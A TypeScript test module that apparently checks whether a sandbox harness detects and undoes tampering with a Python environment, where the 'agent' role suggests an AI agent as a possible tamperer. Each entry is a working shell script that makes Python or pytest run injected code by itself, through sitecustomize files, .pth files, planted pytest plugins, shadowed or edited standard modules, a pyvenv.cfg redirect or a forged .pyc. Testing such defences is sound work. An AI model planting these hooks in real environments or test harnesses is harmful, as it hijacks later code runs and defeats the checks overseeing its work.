import { type Attack, IN_PYTHON } from './attack.ts';

const BOTH = ['outputs', 'snapshot'] as const;
const ALL = ['root', 'agent'] as const;
const SNAPSHOT = ['snapshot'] as const;
const LOCAL = '/usr/local/lib/python3.11/dist-packages';
const SYSTEM = '/usr/lib/python3/dist-packages';
const USER = '$HOME/.local/lib/python3.11/site-packages';
const EVIL = `'${IN_PYTHON}'`;

/** Metadata that has pytest load a module unasked. */
const asPlugin = (folder: string) =>
  `mkdir -p ${folder}/helpful-1.0.dist-info; echo ${EVIL} > ${folder}/helpful.py
printf 'Metadata-Version: 2.1\\nName: helpful\\nVersion: 1.0\\n' > ${folder}/helpful-1.0.dist-info/METADATA
printf '[pytest11]\\nhelpful = helpful\\n' > ${folder}/helpful-1.0.dist-info/entry_points.txt`;

/** What an interpreter reads, runs or prefers by itself. */
export const pythonAttacks: readonly Attack[] = [
  {
    id: 'start-up-modules',
    script: `for d in ${USER} ${LOCAL} ${SYSTEM} /usr/lib/python3.11 /workspace /workspace/out; do mkdir -p $d; echo ${EVIL} | tee $d/sitecustomize.py > $d/usercustomize.py; done 2>/dev/null`,
    as: ALL,
    on: BOTH,
  },
  {
    id: 'path-file-with-code',
    script: `for d in ${USER} ${LOCAL} ${SYSTEM}; do mkdir -p $d; echo ${EVIL} > $d/zz.pth; done 2>/dev/null`,
    as: ALL,
    on: BOTH,
  },
  {
    id: 'path-file-to-plugin',
    script: `mkdir -p ${LOCAL} /opt/lib; echo /opt/lib > ${LOCAL}/lib.pth; ${asPlugin('/opt/lib')}`,
    as: ['root'],
    on: SNAPSHOT,
    recorded: { snapshot: ['uninstalled', '/opt/lib/helpful-1.0.dist-info'] },
  },
  {
    id: 'path-file-to-archive',
    script: `mkdir -p ${LOCAL} /opt/lib; ${asPlugin('/opt/lib')}; cd /opt/lib; python3 -m zipfile -c /opt/lib.zip helpful.py helpful-1.0.dist-info/; rm -r /opt/lib; echo /opt/lib.zip > ${LOCAL}/lib.pth`,
    as: ['root'],
    on: SNAPSHOT,
    recorded: { snapshot: ['removed', `${LOCAL}/lib.pth`] },
  },
  {
    id: 'plugin-of-the-system',
    script: asPlugin(LOCAL),
    as: ['root'],
    on: SNAPSHOT,
    recorded: { snapshot: ['uninstalled', `${LOCAL}/helpful-1.0.dist-info`] },
  },
  {
    id: 'plugin-of-the-user',
    script: asPlugin(USER),
    as: ['root'],
    on: SNAPSHOT,
    recorded: { snapshot: ['uninstalled'] },
  },
  {
    id: 'shadows-in-the-workspace',
    script: `for d in /workspace /workspace/out; do mkdir -p $d/_pytest $d/json; for m in os json/__init__ tempfile argparse pytest _pytest/__init__ pluggy helper; do echo ${EVIL} > $d/$m.py; done; done`,
    as: ALL,
    on: BOTH,
  },
  {
    id: 'shadow-in-an-earlier-folder',
    script: `for m in _pytest pytest packaging iniconfig attr pluggy; do mkdir -p ${LOCAL}/$m; cp -r ${SYSTEM}/$m ${LOCAL}/ 2>/dev/null; echo ${EVIL} >> ${LOCAL}/$m/__init__.py; done`,
    as: ['root'],
    on: SNAPSHOT,
    recorded: { snapshot: ['uninstalled', `${LOCAL}/packaging`] },
  },
  {
    id: 'shadow-in-the-user-site',
    script: `mkdir -p ${USER}; cp -r ${SYSTEM}/attr ${SYSTEM}/packaging ${USER}/; for m in attr packaging; do echo ${EVIL} >> ${USER}/$m/__init__.py; done`,
    as: ['root'],
    on: SNAPSHOT,
    recorded: { snapshot: ['uninstalled'] },
  },
  {
    id: 'package-before-module',
    script: `cd /usr/lib/python3.11; mkdir argparse; cp argparse.py argparse/__init__.py; echo ${EVIL} >> argparse/__init__.py`,
    as: ['root'],
    on: SNAPSHOT,
    recorded: { snapshot: ['removed', '/usr/lib/python3.11/argparse'] },
  },
  {
    id: 'library-in-an-archive',
    script: `cd /tmp; echo ${EVIL} > sitecustomize.py; python3 -m zipfile -c /usr/lib/python311.zip sitecustomize.py`,
    as: ['root'],
    on: SNAPSHOT,
    recorded: { snapshot: ['removed', '/usr/lib/python311.zip'] },
  },
  {
    id: 'another-home-for-python',
    script: `mkdir -p /opt/evil/bin /opt/evil/lib; cp -r /usr/lib/python3.11 /opt/evil/lib/; echo ${EVIL} >> /opt/evil/lib/python3.11/argparse.py; printf 'home = /opt/evil/bin\\n' > /usr/bin/pyvenv.cfg`,
    as: ['root'],
    on: SNAPSHOT,
    recorded: { snapshot: ['removed', '/usr/bin/pyvenv.cfg'] },
  },
  {
    id: 'changed-library',
    script: `for f in /usr/lib/python3.11/argparse.py ${SYSTEM}/pytest/__init__.py ${SYSTEM}/packaging/__init__.py; do echo ${EVIL} >> $f; done`,
    as: ['root'],
    on: BOTH,
    recorded: { snapshot: ['restored', `${SYSTEM}/pytest/__init__.py`] },
  },
  {
    id: 'folder-of-the-library-linked',
    script: `cp -r /usr/lib/python3.11/json /workspace/json; rm -r /workspace/json/__pycache__; echo ${EVIL} >> /workspace/json/__init__.py; rm -r /usr/lib/python3.11/json; ln -s /workspace/json /usr/lib/python3.11/json`,
    as: ['root'],
    on: BOTH,
    recorded: { snapshot: ['restored', '/usr/lib/python3.11/json'] },
  },
  {
    id: 'folder-made-anew',
    script: `cp -r ${SYSTEM}/pytest /tmp/p; rm -r ${SYSTEM}/pytest; cp -r /tmp/p ${SYSTEM}/pytest; echo ${EVIL} >> ${SYSTEM}/pytest/__init__.py; mv ${SYSTEM}/_pytest ${SYSTEM}/x; mv ${SYSTEM}/x ${SYSTEM}/_pytest; echo ${EVIL} >> ${SYSTEM}/_pytest/__init__.py`,
    as: ['root'],
    on: SNAPSHOT,
    recorded: { snapshot: ['restored', `${SYSTEM}/pytest/__init__.py`] },
  },
  {
    id: 'compiled-modules',
    script: `mkdir -p /tmp/c; cp ${SYSTEM}/pytest/__init__.py /tmp/c/x.py; echo ${EVIL} >> /tmp/c/x.py; python3 -c "
import py_compile; py_compile.compile('/tmp/c/x.py', cfile='${SYSTEM}/pytest/__pycache__/__init__.cpython-311.pyc', invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)"`,
    as: ['root'],
    on: SNAPSHOT,
  },
];
